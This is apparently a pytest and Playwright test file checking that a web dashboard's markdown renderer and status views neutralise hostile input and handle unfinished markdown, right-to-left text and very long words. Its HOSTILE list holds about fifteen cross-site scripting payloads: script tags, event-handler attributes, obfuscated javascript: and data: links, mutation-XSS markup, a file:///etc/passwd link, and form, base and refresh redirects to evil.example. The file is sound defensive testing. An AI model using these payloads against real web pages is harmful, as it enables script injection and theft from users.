"""What strangers write into the page: answers that attack it, names of nodes, other scripts, words without an end, and
Markdown that is not finished."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import pytest_asyncio

from swarm.base.errors import RunError
from tests.swarm.serve import scenes
from tests.swarm.serve.browser import browser
from tests.swarm.serve.conftest import Serve
from tests.swarm.serve.test_dashboard import PHONE, WIDE, look, needs_chromium, on_one_loop
from tests.swarm.serve.test_page import MARKDOWN, say
from tests.swarm.serve.tiny import TinyBackend

if TYPE_CHECKING:
    from playwright.async_api import Browser, Page

pytest.importorskip("playwright")
pytestmark = [needs_chromium, on_one_loop]
RUNS = "window.attacked=1"
HOSTILE = [
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f"<svg onload={RUNS}><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe><object data=x></object><embed src=x>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUNS}&gt;'>",
    f"<a href='javascript:{RUNS}'>x</a> [a](javascript:{RUNS}) [b](JaVaScRiPt:{RUNS}) [c](java\nscript:{RUNS})",
    f"[d](&#106;avascript:{RUNS}) [e](javascript&colon;{RUNS}) [f](<  javascript:{RUNS}>) <javascript:{RUNS}>",
    f"[g](data:text/html,<script>{RUNS}</script>) [h](vbscript:x) [i](file:///etc/passwd)",
    f"![j](data:image/svg+xml;base64,PHN2Zy8+) ![k](https://evil.example/p.png) [l](data:image/svg+xml,<svg onload={RUNS}>)",  # noqa: E501
    f'[m](https://a.example/" onmouseover="{RUNS}) [n](https://a.example "x\\" onfocus=\\"{RUNS}")',
    f'```"><script>{RUNS}</script>\ncode\n```\n~~~ x onclick={RUNS}\n<b>\n~~~',
    f"<form action=https://evil.example><input name=key autofocus onfocus={RUNS}></form><base href=https://evil.example>",
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content=0>",
    f"| <img src=x onerror={RUNS}> | [x](javascript:{RUNS}) |\n| --- | --- |\n| <b onclick={RUNS}>y</b> | `<i>` |",
    "<div id=main data-action=forget-all class=main>press me</div> <button data-action='forget-all'>press me</button>",
]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def chromium() -> AsyncIterator[Browser]:
    async with browser() as running:
        yield running


@pytest.fixture
def backend(tmp_path: Path) -> TinyBackend:
    ready = TinyBackend(tmp_path, manifest=scenes.MANIFEST)
    ready.state, ready.ring, ready.script = scenes.SERVING, scenes.RING, "Round it goes."
    return ready


RENDERED = """async texts => {
    const {markdown} = await import("/static/markdown.js");
    return texts.map(text => {
        const box = document.createElement("div");
        box.append(...markdown(text));
        return {
            tags: [...new Set([...box.querySelectorAll("*")].map(each => each.tagName.toLowerCase()))],
            hrefs: [...box.querySelectorAll("a")].map(each => each.protocol),
            attributes: [...new Set([...box.querySelectorAll("*")].flatMap(each => each.getAttributeNames()))],
            actions: [...box.querySelectorAll("[data-action]")].map(each => each.dataset.action),
            text: box.textContent,
        };
    });
}"""
TAGS = set(
    "p br hr strong em s code pre h3 h4 h5 h6 blockquote ul ol li table thead tbody tr th td a div span button".split()
)
ATTRIBUTES = set("href title start class target rel dir tabindex role aria-label data-action type".split())


async def test_answers_cannot_attack_the_page(chromium: Browser, serve: Serve, backend: TinyBackend) -> None:
    backend.script = "\n\n".join(HOSTILE)
    async with serve() as served, look(chromium, served, "chat") as page:
        await say(page, HOSTILE[1])
        await page.locator(".answer.done").wait_for()
        for each in await page.evaluate(RENDERED, HOSTILE):
            assert set(each["tags"]) <= TAGS, each
            assert set(each["attributes"]) <= ATTRIBUTES, each
            assert set(each["hrefs"]) <= {"https:", "http:", "mailto:"}, each
            assert set(each["actions"]) <= {"copy-code"}, each  # the page's own button of a block of code
        for link in await page.locator(".answer .said a").all():
            await link.hover()
        for other in ("swarm", "runs", "chat"):
            await page.goto(f"{served.url}/#{other}")
        assert await page.evaluate("window.attacked") is None
        assert await page.locator("#log :is(img, svg, script, style, iframe, form, input, object, math)").count() == 0


async def test_names_and_errors_cannot_attack_the_page(chromium: Browser, serve: Serve, backend: TinyBackend) -> None:
    bad = f"<img src=x onerror={RUNS}>"
    nodes = tuple(replace(node, name=bad, device=bad, owner=bad) for node in scenes.SERVING.nodes)
    backend.state = replace(scenes.LOST, nodes=(*nodes[:2], replace(nodes[2], standing="down"), nodes[3]))
    backend.fail, backend.fail_after = RunError(bad), 2
    async with serve() as served, look(chromium, served, "swarm") as page:
        await page.get_by_text(bad).first.wait_for()
        await page.goto(f"{served.url}/#chat")
        await say(page, "hello")
        await page.locator(".answer.failed .bad", has_text=bad).wait_for()
        await page.goto(f"{served.url}/#runs")
        await page.locator(".run summary").first.click()
        assert await page.evaluate("window.attacked") is None
        assert await page.locator("main img").count() == 0


async def test_unfinished_markdown_is_shown_as_far_as_it_goes(
    chromium: Browser, serve: Serve, backend: TinyBackend
) -> None:
    """At every letter of a text that comes: no fault, nothing that was there before is missing."""
    async with serve() as served, look(chromium, served, "chat") as page:
        texts = [MARKDOWN[:end] for end in range(len(MARKDOWN) + 1)]
        seen = await page.evaluate(RENDERED, texts)
        words = ["Rings", "ghent", "first", "nested", "in a list", "second", "quoted", "strong"]
        for text, each in zip(texts, seen, strict=True):
            assert set(each["tags"]) <= TAGS
            assert all(word in each["text"] for word in words if word in text), text
        half = await page.evaluate(RENDERED, ["```py\nprint(1)", "<think>so", "| a | b |\n| -", "[x](htt", "**bo"])
        assert "pre" in half[0]["tags"] and "print(1)" in half[0]["text"]
        assert [each["text"].strip() for each in half[3:]] == ["[x](htt", "**bo"]
        parts = 'async text => (await import("/static/markdown.js")).parted(text)'
        assert await page.evaluate(parts, "<think>so") == {"thought": "so", "said": ""}
        assert await page.evaluate(parts, "<thi") == {"thought": "", "said": "<thi"}


async def test_a_picture_is_a_link(chromium: Browser, serve: Serve, backend: TinyBackend) -> None:
    backend.script = "![A map](https://example.org/a.png) [![badge](https://example.org/b.svg)](https://example.org/c)"
    async with serve() as served, look(chromium, served, "chat") as page:
        await say(page, "Where?")
        await page.locator(".answer.done").wait_for()
        links = await page.locator(".answer .said a").evaluate_all("all => all.map(a => [a.textContent, a.href])")
        assert links == [["A map", "https://example.org/a.png"], ["badge", "https://example.org/c"]]
        assert await page.locator(".answer .said p").inner_text() == "A map badge"


DIRECTIONS = "all => all.map(each => [getComputedStyle(each).direction, each.textContent.trim().slice(0, 6)])"
RIGHT_TO_LEFT = (
    "שלום עולם\n\n- فارسی\n- english\n\n> ציטוט\n\n"
    "| שם | n |\n| --- | --- |\n| אור | 1 |\n\n```py\nx = 1\n```\n\nEnglish"
)


async def test_text_from_right_to_left_is_set_so(chromium: Browser, serve: Serve, backend: TinyBackend) -> None:
    backend.script = RIGHT_TO_LEFT
    async with serve() as served, look(chromium, served, "chat") as page:
        await say(page, "שאלה")
        await page.locator(".answer.done").wait_for()
        said = page.locator(".answer .said").locator("p, li, td")
        ways = {text: way for way, text in await said.evaluate_all(DIRECTIONS)}
        assert [ways[text] for text in ("שלום ע", "فارسی", "englis", "ציטוט", "אור", "1")] == [
            "rtl"
        ] * 6  # as it begins
        assert ways["Englis"] == "ltr"
        markers = "([a, b]) => a.getBoundingClientRect().right < b.getBoundingClientRect().right - 10"
        item = await page.query_selector(".answer .said li")
        assert item is not None
        assert await page.evaluate(markers, [item, await page.query_selector(".answer .said ul")])  # room for a dot
        assert await page.locator(".answer pre").evaluate("each => getComputedStyle(each).direction") == "ltr"
        assert await page.locator(".mine .said").evaluate("each => getComputedStyle(each).direction") == "rtl"
        await page.fill("#say", "מילים")
        assert await page.locator("#say").evaluate("each => getComputedStyle(each).direction") == "rtl"


@pytest.mark.parametrize("size", [WIDE, {"width": 768, "height": 1024}, PHONE, {"width": 320, "height": 640}])
async def test_words_without_an_end_stay_within_the_page(
    chromium: Browser, serve: Serve, backend: TinyBackend, size: dict[str, int]
) -> None:
    word = "W" * 400
    backend.script = (
        f"{word}\n\n- {word}\n\n> {word}\n\n`{word}`\n\nhttps://example.org/{word}\n\n# {word}\n\n"
        f"| {word} | b |\n| --- | --- |\n| x | {word} |\n\n```{word}\n{word}\n```\n\n<think>"
    )
    async with serve() as served, look(chromium, served, "chat", size) as page:
        await say(page, word)
        await page.locator(".answer.done").wait_for()
        await assert_within(page)
        await page.get_by_role("button", name="History").click()
        await assert_within(page)


async def assert_within(page: Page) -> None:
    out = await page.evaluate(
        """() => [...document.querySelectorAll("body *")].filter(each => {
            const box = each.getBoundingClientRect();
            const scrolls = each.closest(".wide, pre, .unseen, .skip, svg");
            return box.width && (!scrolls || scrolls === each) && (box.right > innerWidth + 1 || box.left < -1)
                && !each.matches(".unseen, .skip");
        }).map(each => each.outerHTML.slice(0, 80))"""
    )
    assert out == []
    widths = json.loads(
        await page.evaluate(
            "JSON.stringify([document.documentElement.scrollWidth, innerWidth, log.scrollWidth, log.clientWidth])"
        )
    )
    assert widths[0] <= widths[1] and widths[2] <= widths[3]
